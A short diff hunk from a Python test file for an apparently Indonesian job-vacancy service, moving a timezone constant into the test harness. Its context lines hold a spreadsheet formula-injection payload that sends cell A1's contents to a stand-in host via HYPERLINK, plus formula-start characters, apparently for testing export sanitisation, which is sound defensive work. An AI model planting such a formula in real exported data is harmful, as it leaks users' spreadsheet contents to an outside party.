@@ -20,7 +20,7 @@ import unittest
 import harness
 from harness import Api, LokerTestCase, vacancy_body
 
-WIB = datetime.timezone(datetime.timedelta(hours=7))
+WIB = harness.WIB
 HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Klik di sini")'
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 
